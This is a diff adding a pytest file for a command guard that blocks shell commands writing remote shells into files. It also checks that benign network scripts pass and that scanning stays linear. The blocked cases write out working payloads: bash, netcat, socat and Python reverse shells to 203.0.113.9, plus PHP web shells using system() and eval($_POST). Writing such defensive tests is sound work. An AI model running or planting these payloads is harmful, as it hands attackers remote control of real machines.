@@ -1,0 +1,68 @@
+"""A remote shell written into a file by ``echo``, ``printf``, ``cat`` or ``tee`` is held back at the write.
+
+The rule (:func:`agentbus.guards.danger._written_backdoor`) reads the text a command writes only when it
+holds what every remote shell is made of (a socket, a network tool, a named pipe): ordinary writes pay one
+scan of their text, and long texts are judged by their hinted lines, so the work stays linear.
+"""
+
+from __future__ import annotations
+
+import pytest
+from linearity import cost_ratio
+
+from agentbus.guards.danger import check_command
+from agentbus.guards.verdict import BACKDOOR
+
+HOME = "/home/dev"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > run.sh",
+        'echo "mkfifo /tmp/p; nc 203.0.113.9 80 </tmp/p | sh >/tmp/p" >> /opt/app/backup.sh',
+        "printf '#!/bin/sh\\nsocat tcp:203.0.113.9:443 exec:/bin/sh\\n' > hook",
+        "echo \"<?php system('nc -e /bin/sh 203.0.113.9 9001'); ?>\" > page.php",
+        "cat > r.py <<'EOF'\nimport socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',9001))\n"
+        "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\nEOF",
+        "echo '<?php eval($_POST[\"x\"]); ?>' > up.php",
+    ],
+)
+def test_a_remote_shell_written_anywhere_is_a_backdoor(command: str) -> None:
+    verdict = check_command(command, home=HOME)
+    assert verdict is not None
+    assert (verdict.category, verdict.decision) == (BACKDOOR, "block")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'until nc -z db 5432; do sleep 1; done' > wait.sh",
+        "cat > server.py <<'EOF'\nimport socket\ns = socket.create_server(('127.0.0.1', 8080))\nEOF",
+        "printf 'curl -fsS http://localhost:8080/health\\n' > check.sh",
+        "echo \"<?php echo htmlspecialchars($_GET['q']); ?>\" > search.php",
+    ],
+)
+def test_ordinary_scripts_that_use_the_network_are_written(command: str) -> None:
+    assert check_command(command, home=HOME) is None
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("a shell script", "nc -z db{n} 5432 >> up.txt\n"),
+        ("Python socket code", "s{n} = socket.socket()\n"),
+        ("PHP calls", "system('nc -z h {n}'); "),
+    ],
+)
+def test_reading_what_is_written_stays_linear(name: str, line: str) -> None:
+    def text(count: int) -> str:
+        body = "".join(line.format(n=n) for n in range(count))
+        head = "import socket\n" if "socket" in line else "<?php " if "system" in line else ""
+        return f"cat > out.txt <<'EOF'\n{head}{body}\nEOF"
+
+    def judge(command: str) -> object:
+        return check_command(command, home=HOME)
+
+    ratio = cost_ratio(judge, text(40), text(400))
+    assert ratio < 50, f"{name}: ten times the text cost {ratio:.0f} times as much"
